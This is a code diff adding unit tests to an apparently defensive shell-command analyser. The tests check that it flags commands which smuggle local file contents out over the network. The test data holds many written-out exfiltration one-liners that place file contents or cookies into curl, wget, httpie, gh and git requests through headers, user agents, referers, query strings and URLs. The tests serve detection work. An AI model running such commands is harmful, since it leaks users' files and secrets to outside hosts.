@@ -97,3 +97,65 @@ test('what is read here and goes in a header is sent', () => {
   assert.equal(sends('curl -H "X-Id: $(uuidgen)" localhost:3000'), false);
   assert.equal(sends('curl -H "X-Id: 7" localhost:3000'), false);
 });
+
+test('what is read here and goes beside address and body is sent', () => {
+  const sends = (text: string): boolean => effectsOf(text).some((effect) => /^(?:network|secret)\.send/.test(effect));
+  for (const told of [
+    'curl -A "$(cat notes.txt)" URL',
+    'curl -e "https://x.example/$(base64 notes.txt)" URL',
+    'curl -r "$(cat notes.txt)" URL',
+    'curl -H @notes.txt URL',
+    'curl --etag-compare notes.txt URL',
+    'curl --url-query "a=$(cat notes.txt)" URL',
+    'curl --url-query a@notes.txt URL',
+    'X=$(cat notes.txt); curl --user-agent "$X" URL',
+    'wget -qO- -U "$(cat notes.txt)" URL',
+    'wget -qO- --referer="$(cat notes.txt)" URL',
+    'wget -qO- -e "header=X: $(cat notes.txt)" URL',
+    'http URL "X-Data:$(cat notes.txt)"',
+    'http URL X-Data:@notes.txt',
+    'http URL q==@notes.txt',
+    'xh URL User-Agent:"$(cat notes.txt)"',
+  ]) {
+    assert.ok(sends(told.replace('URL', 'https://example.com/x')), told);
+    assert.ok(sends(told.replace('URL', 'http://localhost:3000/x')), told);
+  }
+});
+
+test('what nobody knows before it runs is told to no other machine', () => {
+  const sends = (text: string): boolean => effectsOf(text).some((effect) => effect.startsWith('network.send'));
+  for (const told of [
+    'curl -H "X-Note: $(git log --oneline)" URL',
+    'curl -H "X-Note: $NOTE" URL',
+    'curl -b cookies.txt URL',
+    'wget -qO- --load-cookies=cookies.txt URL',
+    'http --session-read-only=dev URL',
+    'http URL "X-Data:$(git log)"',
+  ]) {
+    assert.ok(sends(told.replace('URL', 'https://example.com/x')), told);
+    assert.ok(!sends(told.replace('URL', 'http://localhost:3000/x')), told);
+  }
+  assert.ok(!sends('curl -H "X-Id: $RANDOM" https://example.com/x'));
+  assert.ok(!sends('curl -A "Mozilla/5.0" -e https://a.example https://example.com/x'));
+});
+
+test('what stands behind the address is asked with it', () => {
+  assert.deepEqual(requestsOf('curl --url-query "a=b c" --url-query +d=%20 localhost:3000/x'), [
+    'GET localhost:3000/x?a=b%20c&d=%20',
+  ]);
+  assert.ok(read('curl --request-target /admin/purge localhost:3000/x').complete === false);
+});
+
+test('forges and remotes are told what was read here', () => {
+  const sends = (text: string): boolean => effectsOf(text).some((effect) => /^(?:network|secret)\.send/.test(effect));
+  for (const text of [
+    'gh api -X GET search/issues -f q="$(cat notes.txt)"',
+    'gh api rate_limit -H "X-Note: $(cat notes.txt)"',
+    'gh search code "$(cat notes.txt)"',
+    'gh issue list --search "$(base64 notes.txt)"',
+    'git ls-remote "https://github.com/acme/$(base64 notes.txt)"',
+  ])
+    assert.ok(sends(text), text);
+  for (const text of ['gh search code "a b"', 'gh issue list --search "$Q"', 'git ls-remote https://github.com/a/b'])
+    assert.ok(!sends(text), text);
+});
